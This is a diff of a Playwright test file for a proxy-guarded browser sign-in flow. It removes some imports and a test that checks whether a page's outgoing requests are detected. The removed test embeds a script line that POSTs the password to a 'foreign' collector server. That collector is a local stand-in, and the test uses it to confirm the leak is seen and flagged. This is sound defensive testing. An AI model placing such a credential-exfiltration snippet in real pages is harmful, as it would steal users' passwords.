@@ -5,9 +5,8 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { Browser } from '@playwright/test'
 import { request } from 'undici'
-import { sessionIn, sessionOf } from '../../helpers/browser/consent-session.ts'
-import { Egress } from '../../helpers/browser/egress.ts'
-import { guardedContext, witness } from '../../helpers/browser/guard-context.ts'
+import { sessionIn } from '../../helpers/browser/consent-session.ts'
+import { guardedContext } from '../../helpers/browser/guard-context.ts'
 import { launchBrowser } from '../../helpers/browser/launch.ts'
 import { BrowserProxy } from '../../helpers/browser/proxy/browser-proxy.ts'
 import { resolveBrowser } from '../../helpers/browser/resolve.ts'
@@ -15,7 +14,7 @@ import { originsOf } from '../../helpers/http/allowed-origins.ts'
 import { issueCertificates } from '../../sandbox/http/certificate.ts'
 import { test as base, expect, foreign, PATIENT, walkFrom } from './browser-test.ts'
 import { signInPage } from './consent-pages.ts'
-import { collector, pagesWith, redirectUri, SECRET, submit, variables } from './egress-pages.ts'
+import { collector, pagesWith, redirectUri, submit, variables } from './egress-pages.ts'
 import { middleman } from './middleman.ts'
 import { page } from './service.ts'
 
@@ -173,21 +172,4 @@ test('a connection that ends after an answer costs a page nothing', async ({ lau
   const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
   await session.close()
   expect(walk.redirect).toContain('code=c1')
-})
-
-test('what gets past the proxy is seen, and named as sent', async ({ chrome, service }) => {
-  const sent: string[] = []
-  const abroad = foreign(await service(collector(sent)))
-  const script = `await fetch('${abroad}/f', { method: 'POST', mode: 'no-cors', body: pw })`
-  const own = await service(pagesWith(sending(script), () => abroad))
-  const context = await chrome.newContext()
-  const egress = new Egress()
-  witness(context, egress)
-  const session = await sessionOf({ context, egress }, PATIENT)
-  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
-  await session.close()
-  expect(sent.join()).toContain(SECRET)
-  expect(walk.strays).toMatchObject([
-    { method: 'POST', to: abroad, isSent: true, carries: [expect.stringMatching(/^<consent_password#/)] },
-  ])
 })
